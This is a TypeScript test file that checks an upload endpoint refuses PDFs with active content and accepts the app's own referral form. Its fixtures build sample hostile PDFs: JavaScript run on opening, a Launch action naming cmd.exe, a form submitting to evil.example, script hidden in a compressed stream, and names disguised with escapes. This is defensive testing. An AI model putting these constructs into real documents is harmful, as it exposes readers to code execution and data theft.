import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFDict } from "@cantoo/pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildReferralForm } from "../../server/referral-form";
import { PDF_ACTIVE_CONTENT, PDF_UNREADABLE, scanRaw } from "../../server/uploads/pdf-check";
import { createTestApp, type TestApp } from "../helpers/app";
import { multipartBody, pdfBytes } from "../helpers/requests";

/**
 * Issue 10, "Uploads": a PDF that holds active content is refused with 415
 * and a message the booking page shows; our own fillable referral form, and
 * plain PDFs, still pass.
 */
const UPLOAD = "/api/cloudinary/upload/referrals_forms";

/** A one-page PDF made by pdf-lib, changed by `edit`. */
async function makePdf(edit: (doc: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]).drawText("Referral", { x: 20, y: 100, size: 12 });
  await edit(doc);
  return Buffer.from(await doc.save());
}

/** A PDF whose catalog (object 2) lives only inside a Flate-compressed object stream (object 1). */
function objectStreamPdf(catalog: string): Buffer {
  const header = "2 0 ";
  const packed = zlib.deflateSync(Buffer.from(header + catalog, "latin1"));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First ${header.length}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`,
      "latin1",
    ),
    packed,
    Buffer.from(
      "\nendstream\nendobj\n3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 2 0 R/Size 4>>\n%%EOF\n",
      "latin1",
    ),
  ]);
}

const action = (doc: PDFDocument, entries: Record<string, unknown>) =>
  doc.context.obj(entries as never) as unknown as PDFDict;

const ACTIVE: [string, (doc: PDFDocument) => void | Promise<void>][] = [
  [
    "JavaScript run on opening (/OpenAction /S /JavaScript /JS)",
    (doc) =>
      doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "JavaScript", JS: PDFString.of("app.alert(1)") })),
  ],
  [
    "document-level JavaScript (/Names /JavaScript)",
    (doc) =>
      doc.catalog.set(
        PDFName.of("Names"),
        action(doc, {
          JavaScript: action(doc, {
            Names: [PDFString.of("x"), action(doc, { S: "JavaScript", JS: PDFString.of("1") })],
          }),
        }),
      ),
  ],
  [
    "a Launch action",
    (doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "Launch", F: PDFString.of("cmd.exe") })),
  ],
  [
    "an embedded file (/EmbeddedFiles, /EmbeddedFile)",
    async (doc) =>
      doc.attach(Buffer.from("MZ not really a program"), "tool.exe", { mimeType: "application/octet-stream" }),
  ],
  [
    "a page's additional action (/AA) running JavaScript",
    (doc) =>
      doc
        .getPage(0)
        .node.set(
          PDFName.of("AA"),
          action(doc, { O: action(doc, { S: "JavaScript", JS: PDFHexString.fromText("1") }) }),
        ),
  ],
  [
    "a form that submits its data (/SubmitForm)",
    (doc) =>
      doc.catalog.set(
        PDFName.of("OpenAction"),
        action(doc, { S: "SubmitForm", F: PDFString.of("https://evil.example/") }),
      ),
  ],
  [
    "an XFA form (/XFA)",
    (doc) => doc.catalog.set(PDFName.of("AcroForm"), action(doc, { Fields: [], XFA: PDFString.of("<xdp/>") })),
  ],
  [
    "a RichMedia annotation",
    (doc) =>
      doc
        .getPage(0)
        .node.set(
          PDFName.of("Annots"),
          doc.context.obj([action(doc, { Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 10, 10] })]),
        ),
  ],
  [
    "a link that opens another file (/GoToR)",
    (doc) =>
      doc.catalog.set(
        PDFName.of("OpenAction"),
        action(doc, { S: "GoToR", F: PDFString.of("\\\\host\\share\\x.pdf"), D: [0, "Fit"] }),
      ),
  ],
];

describe("PDFs with active content", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ RATE_LIMIT_ENABLED: "false", UPLOAD_DAILY_PER_ADDRESS: "1000" });
  });
  afterAll(() => t.close());

  const upload = (content: Buffer, name = "referral.pdf") => {
    const body = multipartBody(name, content, { contentType: "application/pdf" });
    return t.app.inject({ method: "POST", url: UPLOAD, payload: body.payload, headers: body.headers });
  };
  const files = () => fs.readdirSync(path.join(t.dataDir, "uploads"));
  const rows = async () => (await t.db.selectFrom("uploads").select("id").execute()).length;

  it.each(ACTIVE)("refuses %s with 415 and the booking page's message, keeping nothing", async (_label, edit) => {
    const pdf = await makePdf(edit);
    const [beforeFiles, beforeRows] = [files(), await rows()];
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ message: PDF_ACTIVE_CONTENT, errors: { file: PDF_ACTIVE_CONTENT } });
    expect(files()).toEqual(beforeFiles);
    expect(await rows()).toBe(beforeRows);
  });

  it("finds active content hidden in a compressed object stream, which a byte scan alone cannot see", async () => {
    const pdf = objectStreamPdf("<</Type/Catalog/Pages 3 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>");
    expect(scanRaw(pdf)).toBeNull();
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(PDF_ACTIVE_CONTENT);
    // The same document without the script passes: the refusal is for the script, not the object stream.
    expect((await upload(objectStreamPdf("<</Type/Catalog/Pages 3 0 R>>"))).statusCode).toBe(201);
  });

  it("refuses active content whose name is disguised with #xx escapes, and a PDF that does not parse", async () => {
    const disguised = Buffer.from(
      "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    );
    expect((await upload(disguised)).json().message).toBe(PDF_ACTIVE_CONTENT);
    // Looks like a PDF to the type sniffer, but holds no document: it cannot be checked, so it is refused.
    const broken = Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(3000, 0x41)]);
    const res = await upload(broken);
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(PDF_UNREADABLE);
  });

  it("refuses an encrypted PDF, whose insides cannot be checked", async () => {
    const pdf = await makePdf((doc) => doc.encrypt({ userPassword: "secret", ownerPassword: "owner" }));
    const res = await upload(pdf);
    expect(res.statusCode).toBe(415);
    expect(res.json().message).toBe(PDF_UNREADABLE);
  });

  it("accepts our own fillable referral form (as the server makes and serves it) and plain PDFs", async () => {
    const ours = Buffer.from(await buildReferralForm(t.config));
    expect((await upload(ours, "referral-form.pdf")).statusCode).toBe(201);
    // A filled-in copy, as a referring doctor sends it back.
    const filled = await PDFDocument.load(ours);
    filled.getForm().getTextField("patient_surname").setText("Molefhe");
    expect((await upload(Buffer.from(await filled.save()), "filled.pdf")).statusCode).toBe(201);
    expect((await upload(await makePdf(() => undefined))).statusCode).toBe(201);
    expect((await upload(pdfBytes(5000))).statusCode).toBe(201);
    // A link to a web page (/URI) is not active content.
    const link = await makePdf((doc) =>
      doc.catalog.set(
        PDFName.of("OpenAction"),
        action(doc, { S: "URI", URI: PDFString.of("https://clinic.example.org/") }),
      ),
    );
    expect((await upload(link)).statusCode).toBe(201);
  });
});
